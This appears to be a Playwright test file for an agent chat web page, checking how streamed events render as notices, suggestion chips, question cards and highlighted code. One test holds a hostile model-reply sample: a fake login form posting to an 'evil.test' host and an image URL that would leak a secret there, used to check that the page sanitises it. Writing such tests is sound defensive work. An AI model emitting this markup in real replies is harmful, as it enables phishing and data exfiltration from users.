"""How the page applies the event stream, fed with hand-made events (API.md shapes).

The events go through the same entry as socket events (`chat.ingest`). Their task ids are
made up; their indexes are contiguous, so the page never needs to fetch the log of those
tasks. The real server still serves the conversation and takes the messages the page sends.
"""

from __future__ import annotations

import re
from typing import Any

from playwright.sync_api import expect

from modules.event_catalogue import (
    AiMessageStartEvent,
    AskUserEvent,
    RouteEvent,
    SubAgentWaitingEvent,
    SuggestionsEvent,
    TaskCompleteEvent,
    TextChunkEvent,
    TextEndEvent,
    UserMessageEvent,
)
from modules.statuses import Delivery, MessageSource, Route, Visibility
from test.browser.helpers import assistant, inject, open_synthetic_conversation
from test.scripted_llm import text


def _open_conversation(open_page, server) -> tuple[Any, str, str]:
    return open_synthetic_conversation(open_page, server, "synthetic events")


_inject = inject


def _user(message_id: str, message: str, **extra: Any) -> dict:
    return {"message": message, "message_id": message_id, "source": MessageSource.USER, "visibility": Visibility.CHAT,
            "starts_work": True, "metadata": {}, **extra}  # fmt: skip


def test_notices_chips_questions_and_badges_from_the_event_stream(open_page, ui_server, llm):
    page, cid, master = _open_conversation(open_page, ui_server)
    notice = {
        "message": "InfoAgent_1 finished: the answer is 42\nfull report follows",
        "message_id": "notice-1",
        "source": MessageSource.SUB_AGENT,
        "visibility": Visibility.COMPACT,
        "starts_work": False,
        "metadata": {"sub_agent_notice": True, "sub_agent_id": "agent-y", "task_id": "nested-task"},
    }
    _inject(
        page,
        cid,
        master,
        "task-a",
        [
            (0, UserMessageEvent.TYPE, _user("user-1", "compute the answer")),
            (1, RouteEvent.TYPE, {"route": Route.PIPELINE, "delivery": Delivery.TRIGGERED_NEW_TURN,
                                  "target_agent": "MasterAgent"}),
            (2, AiMessageStartEvent.TYPE, {"message_id": "reply-1", "display_name": "MasterAgent"}),
            (3, TextChunkEvent.TYPE, {"message_id": "reply-1", "content": "Working "}),
            (4, UserMessageEvent.TYPE, notice),
            (4, UserMessageEvent.TYPE, notice),  # the same event twice
            (5, UserMessageEvent.TYPE, {**_user("hidden-1", "secret steering"), "visibility": Visibility.HIDDEN}),
            (6, TextChunkEvent.TYPE, {"message_id": "reply-1", "content": "on it."}),
            (7, TextEndEvent.TYPE, {"message_id": "reply-1", "content": "Working on it."}),
            (8, SuggestionsEvent.TYPE, {"questions": ["continue", "show the report"], "message_id": "reply-1"}),
        ],
    )
    # the same notice again, from another task's log (socket echo + log replay)
    _inject(page, cid, master, "task-b", [(0, UserMessageEvent.TYPE, notice)])

    expect(page.get_by_test_id("user-message")).to_have_count(1)
    expect(page.get_by_test_id("route-badge")).to_have_attribute("data-route", Route.PIPELINE)
    notices = page.get_by_test_id("notice")
    expect(notices).to_have_count(1)
    expect(notices.get_by_test_id("notice-text")).to_have_text("InfoAgent_1 finished: the answer is 42")
    expect(page.get_by_text("secret steering")).to_have_count(0)
    reply = assistant(page)
    expect(reply.get_by_test_id("assistant-text")).to_have_text("Working on it.")
    expect(page.get_by_test_id("suggestion-chip")).to_have_text(["continue", "show the report"])
    expect(page.get_by_test_id("stop-button")).to_be_visible()

    # a question from an agent, then the waiting line
    _inject(
        page,
        cid,
        master,
        "task-b",
        [
            (1, AskUserEvent.TYPE, {"question_id": "q-1", "question": "Which format?", "options": ["CSV", "JSON"]}),
            (2, SubAgentWaitingEvent.TYPE, {"count": 1, "tasks": [{"agent_id": "agent-y", "summary": "InfoAgent_1"}]}),
        ],
    )
    card = page.get_by_test_id("ask-card")
    expect(card.get_by_test_id("ask-question")).to_have_text("Which format?")
    expect(card.get_by_test_id("ask-option")).to_have_text(["CSV", "JSON"])
    expect(page.get_by_test_id("sub-agent-waiting")).to_contain_text("1 sub-agent")
    _inject(page, cid, master, "task-a", [(9, TaskCompleteEvent.TYPE, {"has_running_sub_agents": True})])
    _inject(page, cid, master, "task-b", [(3, TaskCompleteEvent.TYPE, {"has_running_sub_agents": False})])
    expect(page.get_by_test_id("stop-button")).to_have_count(0)
    expect(page.get_by_test_id("sub-agent-waiting")).to_have_count(0)

    # answering sends the text with the question id; the server knows no such open question here
    card.get_by_test_id("ask-option").filter(has_text="JSON").click()
    expect(card).to_have_attribute("data-answered", "true")
    expect(card.get_by_test_id("ask-answer")).to_contain_text("no longer open")
    expect(page.get_by_test_id("suggestion-chip")).to_have_count(0)
    expect(page.get_by_test_id("user-message")).to_have_count(2)
    expect(page.get_by_test_id("user-message").last.get_by_test_id("send-error")).to_contain_text("not pending")
    assert page.evaluate("() => window.__agentChat.state.textMismatches") == 0


def test_a_suggestion_chip_sends_its_text(open_page, ui_server, llm):
    page, cid, master = _open_conversation(open_page, ui_server)
    _inject(
        page,
        cid,
        master,
        "task-c",
        [
            (0, AiMessageStartEvent.TYPE, {"message_id": "reply-9", "display_name": "MasterAgent"}),
            (1, TextEndEvent.TYPE, {"message_id": "reply-9", "content": "Shall I go on?"}),
            (2, SuggestionsEvent.TYPE, {"questions": ["continue"], "message_id": "reply-9"}),
            (3, TaskCompleteEvent.TYPE, {}),
        ],
    )
    llm.script(text("Going on."))
    page.get_by_test_id("suggestion-chip").click()
    expect(page.get_by_test_id("user-message").get_by_test_id("user-text")).to_have_text("continue")
    expect(page.get_by_test_id("suggestion-chip")).to_have_count(0)
    expect(page.get_by_test_id("route-badge")).to_have_attribute("data-route", Route.PIPELINE)
    expect(assistant(page).last.get_by_test_id("assistant-text")).to_have_text("Going on.")


HOSTILE_REPLY = (
    'Hi <div style="position:fixed;inset:0;z-index:999;background:red">cover</div>\n\n'
    '<div class="backdrop">dim the page</div>\n\n'
    "<style>body { display: none }</style>\n\n"
    '<form action="http://evil.test/login"><input name="password"><textarea></textarea>'
    "<select><option>a</option></select><button>Log in</button></form>\n\n"
    "![the secret](http://evil.test/pixel.png?secret=hunter2)\n\n"
    '<img src="http://evil.test/raw.png" alt="">\n\n'
    '<video src="http://evil.test/v.mp4" poster="http://evil.test/p.png"></video>\n\n'
    '<table background="http://evil.test/bg.png"><tr><td>cell</td></tr></table>\n\n'
    "![inline](data:image/gif;base64,R0lGODlhAQABAAAAACw=) ![own](/sentinel.png)"
)


def test_model_markup_cannot_restyle_the_page_pose_as_a_form_or_fetch_remote_urls(open_page, ui_server, llm):
    page, cid, master = _open_conversation(open_page, ui_server)
    remote: list[str] = []
    page.route("http://evil.test/**", lambda route: (remote.append(route.request.url), route.abort()))
    # the page's own image comes after the remote ones: once it is requested, they would have been too
    with page.expect_request("**/sentinel.png"):
        _inject(
            page,
            cid,
            master,
            "task-h",
            [
                (0, AiMessageStartEvent.TYPE, {"message_id": "reply-h", "display_name": "MasterAgent"}),
                (1, TextEndEvent.TYPE, {"message_id": "reply-h", "content": HOSTILE_REPLY}),
                (2, TaskCompleteEvent.TYPE, {}),
            ],
        )
    body = assistant(page).get_by_test_id("assistant-text")
    expect(body).to_contain_text("cell")
    for selector in ("[style]", "style", "form", "input", "textarea", "select", "button", "video", "[background]",
                     ".backdrop"):  # fmt: skip
        expect(body.locator(selector)).to_have_count(0)
    expect(body.locator("img")).to_have_count(2)
    expect(body.locator("img").first).to_have_attribute("src", re.compile(r"^data:image/gif"))
    expect(body.locator("img").last).to_have_attribute("src", "/sentinel.png")
    link = body.get_by_role("link", name="the secret")
    expect(link).to_have_attribute("href", "http://evil.test/pixel.png?secret=hunter2")
    assert remote == []
    assert page.evaluate("() => getComputedStyle(document.body).display") != "none"


UNLABELLED_CODE = "Code:\n\n```\ndef greet(name):\n    return 'hi ' + name\n```\n"

# Feeds `n` chunks to the reply, each in a task of its own (as socket messages come), and counts
# how often the reply's HTML is replaced meanwhile.
STREAM_CHUNKS = """([cid, master, n]) => new Promise((done) => {
  const body = document.querySelector('[data-message-id="reply-s"] [data-testid="assistant-text"]');
  window.__renders = 0;
  new MutationObserver((records) => {
    window.__renders += records.filter((r) => r.target === body).length;
  }).observe(body, { childList: true });
  const channel = new MessageChannel();
  let i = 0;
  channel.port1.onmessage = () => {
    window.__agentChat.chat.ingest({ type: "text_chunk", data: { conversation_id: cid, agent_id: master,
      task_id: "task-s", idx: 2 + i, message_id: "reply-s", content: ` c${String(i).padStart(3, "0")}` } });
    if (++i < n) channel.port2.postMessage(0);
    else done();
  };
  channel.port2.postMessage(0);
})"""


def test_a_streaming_reply_renders_once_a_frame_and_guesses_code_languages_when_done(open_page, ui_server, llm):
    page, cid, master = _open_conversation(open_page, ui_server)
    _inject(
        page,
        cid,
        master,
        "task-s",
        [
            (0, AiMessageStartEvent.TYPE, {"message_id": "reply-s", "display_name": "MasterAgent"}),
            (1, TextChunkEvent.TYPE, {"message_id": "reply-s", "content": UNLABELLED_CODE}),
        ],
    )
    reply = assistant(page)
    code = reply.locator("pre code")
    expect(code).to_contain_text("def greet(name):")
    expect(page.get_by_test_id("timeline")).to_have_attribute("aria-busy", "true")
    # while it streams the block stays plain: guessing its language on every chunk is slow
    expect(code.locator("span")).to_have_count(0)
    expect(reply.locator(".code-lang")).to_have_count(0)

    page.evaluate(STREAM_CHUNKS, [cid, master, 100])
    body = reply.get_by_test_id("assistant-text")
    expect(body).to_contain_text("c099")
    renders = page.evaluate("() => window.__renders")
    assert renders < 20, f"{renders} renders for 100 chunks"

    full = UNLABELLED_CODE + "".join(f" c{i:03d}" for i in range(100))
    _inject(page, cid, master, "task-s", [(102, TextEndEvent.TYPE, {"message_id": "reply-s", "content": full}),
                                          (103, TaskCompleteEvent.TYPE, {})])  # fmt: skip
    expect(reply).to_have_attribute("data-done", "true")
    expect(code.locator("span.hljs-keyword").first).to_have_text("def")
    expect(page.get_by_test_id("timeline")).to_have_attribute("aria-busy", "false")
    assert page.evaluate("() => window.__agentChat.state.textMismatches") == 0


def test_the_same_chip_or_option_twice_shows_once(open_page, ui_server, llm):
    page, cid, master = _open_conversation(open_page, ui_server)
    _inject(
        page,
        cid,
        master,
        "task-d",
        [
            (0, AiMessageStartEvent.TYPE, {"message_id": "reply-d", "display_name": "MasterAgent"}),
            (1, TextEndEvent.TYPE, {"message_id": "reply-d", "content": "Pick a format."}),
            (2, AskUserEvent.TYPE, {"question_id": "q-d", "question": "Which format?", "options": ["CSV", "CSV",
                                                                                                   "JSON"]}),
            (3, SuggestionsEvent.TYPE, {"questions": ["continue", "continue", "stop"], "message_id": "reply-d"}),
        ],
    )
    expect(page.get_by_test_id("ask-option")).to_have_text(["CSV", "JSON"])
    expect(page.get_by_test_id("suggestion-chip")).to_have_text(["continue", "stop"])
